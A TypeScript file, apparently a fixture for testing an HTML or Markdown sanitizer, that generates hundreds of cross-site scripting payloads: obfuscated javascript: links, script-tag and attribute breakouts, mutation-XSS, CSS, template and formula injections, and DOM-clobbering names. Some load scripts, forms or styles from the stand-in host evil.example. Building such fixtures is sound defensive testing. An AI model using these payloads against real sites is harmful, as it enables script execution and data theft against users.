/** Where payloads would send or fetch something. */
export const EVIL = 'evil.example';

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'x',
];
const HANDLERS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onmouseover', 'onanimationend tabindex=1'];

/** How a scheme is hidden from who only looks for its name. */
const SCHEMES: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java\rscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `\u0000javascript:${call}`,
  (call) => `java\u0000script:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `\u00a0javascript:${call}`,
  (call) => `\u200bjavascript:${call}`,
  (call) => `\ufeffjavascript:${call}`,
  (call) => `javascript\t:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => `&#106;&#97;vascript:${call}`,
  (call) => `&#x6A&#x61vascript:${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript:/*https://a.example*/${call}`,
  (call) => `javascript%3A${call}`,
  (call) => `ｊavascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `livescript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  (call) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `blob:https://${EVIL}/${call}`,
  (call) => `filesystem:https://${EVIL}/${call}`,
  (call) => `https://${EVIL}/"onmouseover="${call}`,
  (call) => `https://www.youtube.com/watch?v="onload="${call}`,
];

/** Ways to write an address into Markdown. */
const LINKS: ((url: string) => string)[] = [
  (url) => `[link](<${url}>)`,
  (url) => `[link](${url} "title")`,
  (url) => `![picture](<${url}>)`,
  (url) => `<${url}>`,
  (url) => `<a href="${url}" class="button primary">Go</a>`,
  (url) => `{% embed url="${url}" %}`,
  (url) => `{% content-ref url="${url}" %}\n[x](${url})\n{% endcontent-ref %}`,
  (url) => `<figure><img src="${url}"><figcaption><a href="${url}">x</a></figcaption></figure>`,
];

const SCRIPTS: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script src=//${EVIL}/${encodeURIComponent(call)}></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script>\u2028${call}</script>`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}" /></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
];

const BREAKOUTS: ((call: string) => string)[] = [
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `\`><img src=x onerror=${call}>`,
  (call) => `" onmouseover="${call}`,
  (call) => `' onmouseover='${call}`,
  (call) => `\` onmouseover=\`${call}`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `x\u0000" onload="${call}`,
  (call) => `&quot; onmouseover=&quot;${call}`,
  (call) => `\u202e" onmouseover="${call}`,
  (call) => `\u2028" onmouseover="${call}\u2029`,
  (call) => `\ufffd" onmouseover="${call}`,
  (call) => `<img src="x\`\`><script>${call}</script>"\`\`>`,
  (call) => `<img """><script>${call}</script>">`,
  (call) => `<a data-x='"' onmouseover=${call} '>x</a>`,
  (call) => `<img/src=x/onerror=${call}//`,
  (call) => `<img\u000csrc=x\u000conerror=${call}>`,
  (call) => `<img src=x onerror\u0009=\u0009${call}>`,
  (call) => `<img src=x:x onerror="&#${call.charCodeAt(0)};${call.slice(1)}">`,
];

/** Shapes that change their meaning when what was parsed is written and parsed again. */
const MUTATIONS: ((call: string) => string)[] = [
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set attributeName=onmouseover to=${call}>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}></svg>#x"/></svg>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<math><maction actiontype="statusline#https://${EVIL}" xlink:href="javascript:${call}">x</maction></math>`,
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<title><img src=x onerror=${call}></title>`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  (call) => `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
];

const ELEMENTS: ((call: string) => string)[] = [
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<applet code="javascript:${call}"></applet>`,
  (call) => `<base href="javascript:${call}//">`,
  () => `<base href="https://${EVIL}/">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  () => `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">`,
  () => `<meta http-equiv="set-cookie" content="a=b">`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  () => `<form action="https://${EVIL}/"><input name=q autofocus></form>`,
  (call) => `<button formaction="javascript:${call}">x</button>`,
  (call) => `<isindex action="javascript:${call}" type=image>`,
  (call) => `<input type=image src=x onerror=${call}>`,
  () => `<link rel=stylesheet href="https://${EVIL}/a.css">`,
  () => `<link rel=import href="https://${EVIL}/a.html">`,
  () => `<link rel=prefetch href="https://${EVIL}/a">`,
  (call) => `<area href="javascript:${call}" shape=rect>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<video poster="javascript:${call}"></video>`,
  (call) => `<img srcset="x" onerror=${call}>`,
  (call) => `<button popovertarget=x onclick=${call}>x</button><div popover id=x onbeforetoggle=${call}>y</div>`,
  (call) => `<a href="#" onclick=${call} accesskey=x>x</a>`,
  (call) => `<select><option onclick=${call}>x</select>`,
];

const STYLES: ((call: string) => string)[] = [
  (call) => `<style>@import "javascript:${call}";</style>`,
  () => `<style>@import url(https://${EVIL}/a.css);</style>`,
  () => `<style>body{background:url(https://${EVIL}/a)}</style>`,
  (call) => `<div style="width:expression(${call})">x</div>`,
  (call) => `<div style="background:url(javascript:${call})">x</div>`,
  () => `<div style="position:fixed;inset:0;background:url(https://${EVIL}/b)">x</div>`,
  (call) => `<div style="behavior:url(#x);-moz-binding:url(javascript:${call})">x</div>`,
  () => `red;background:url(https://${EVIL}/c)`,
  () => `<mark style="color:red;background:url(https://${EVIL}/d)">x</mark>`,
  (call) => `}</style><img src=x onerror=${call}><style>{`,
];

const TEMPLATES: ((call: string) => string)[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{ ${call} }}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `[[${call}]]`,
  (call) => `{% if ${call} %}x{% endif %}`,
  (call) => `{% raw %}<img src=x onerror=${call}>{% endraw %}`,
  (call) => `{% @evil/block content="<img src=x onerror=${call}>" %}`,
  (call) => `<div ng-app ng-csp>{{$on.constructor('${call}')()}}</div>`,
  (call) => `<div v-html="'<img src=x onerror=${call}>'"></div>`,
  (call) => `<div data-copy="<img src=x onerror=${call}>">x</div>`,
];

/** What formulas and code are made of. */
const FORMULAS: ((call: string) => string)[] = [
  (call) => `$$\\href{javascript:${call}}{x}$$`,
  (call) => `$$\\url{javascript:${call}}$$`,
  (call) => `$$\\htmlData{onclick=${call}}{x}$$`,
  () => `$$\\htmlStyle{background:url(https://${EVIL}/k)}{x}$$`,
  (call) => `$$\\htmlId{x" onmouseover="${call}}{x}$$`,
  () => `$$\\includegraphics{https://${EVIL}/k.png}$$`,
  (call) => `$$\\text{<img src=x onerror=${call}>}$$`,
  (call) => `$$\\color{red;x" onmouseover="${call}}{x}$$`,
  (call) => `$$\\def\\x{\\href{javascript:${call}}}\\x{y}$$`,
  (call) => `$$\n\\unicode{x3c}img src=x onerror=${call}\\unicode{x3e}\n$$`,
];

const MARKDOWN: ((call: string) => string)[] = [
  (call) => `\`\`\`html"><img src=x onerror=${call}>\nx\n\`\`\``,
  (call) => `{% code title="&quot;><img src=x onerror=${call}>" %}\n\`\`\`js\nx\n\`\`\`\n{% endcode %}`,
  (call) => `| a | b |\n| --- | --- |\n| <img src=x onerror=${call}> | [x](javascript:${call}) |`,
  (call) => `[x](https://a.example "&quot; onmouseover=&quot;${call}")`,
  (call) => `![" onerror="${call}](x.png)`,
  (call) => `![x](x.png"onerror="${call})`,
  (call) => `[x]: javascript:${call}\n\n[x]`,
  (call) => `[x][^n]\n\n[^n]: <img src=x onerror=${call}>`,
  (call) => `<details><summary><img src=x onerror=${call}></summary>\n\nx\n\n</details>`,
  (call) => `{% tabs %}\n{% tab title="<img src=x onerror=${call}>" %}\nx\n{% endtab %}\n{% endtabs %}`,
  (call) =>
    `{% hint style="info&quot; onmouseover=&quot;${call}" icon="x&quot; onload=&quot;${call}" %}\nx\n{% endhint %}`,
  (call) => `{% swagger src="javascript:${call}" path="/x" method="get" %}`,
  (call) => `<i class="fa-x&quot; onmouseover=&quot;${call}"></i>`,
  (call) => `<span class="emoji" data-code="&quot;><img src=x onerror=${call}>">x</span>`,
  (call) => `[/users/x"><img src=x onerror=${call}>](/users/x "mention")`,
  (call) =>
    `<table data-view="cards"><thead><tr><th data-card-target data-type="content-ref"></th></tr></thead><tbody><tr><td><a href="javascript:${call}">x</a></td></tr></tbody></table>`,
  (call) => `<img src="x" width="1&quot; onerror=&quot;${call}" alt="&quot; onerror=&quot;${call}">`,
  (call) => `<p align="center&quot; onmouseover=&quot;${call}">x</p>`,
];

/** Names by which content could take the place of what scripts look for. */
const CLOBBERED = [
  'body',
  'head',
  'cookie',
  'location',
  'documentElement',
  'site-menu',
  'main',
  'search-found',
  'base',
  '__proto__',
];

/** Script injections of every kind; each of them calls `pwned` with its own number. */
export function payloads(): string[] {
  const shapes = [
    ...TAGS.flatMap((tag) => HANDLERS.map((handler) => handled(tag, handler))),
    ...SCHEMES.flatMap((scheme, index) => [index, index + 3, index + 5].map((at) => linked(scheme, at))),
    ...[SCRIPTS, BREAKOUTS, MUTATIONS, ELEMENTS, STYLES, TEMPLATES, FORMULAS, MARKDOWN].flat(),
    ...CLOBBERED.flatMap((name) => [() => `## x {#${name}}`, () => `<a id="${name}" name="${name}">x</a>`]),
  ];
  return shapes.map((shape, index) => shape(`pwned(${index})`));
}

/** Addresses that run a script where somebody follows them. */
export function hostileAddresses(): string[] {
  return SCHEMES.map((scheme, index) => scheme(`pwned(${1000 + index})`));
}

function handled(tag: string, handler: string): (call: string) => string {
  const [name = '', ...rest] = handler.split(' ');
  return (call) => `<${tag} ${rest.join(' ')} ${name}=${call}>`;
}

function linked(scheme: (call: string) => string, at: number): (call: string) => string {
  const link = LINKS[at % LINKS.length];
  return (call) => link?.(scheme(call)) ?? '';
}
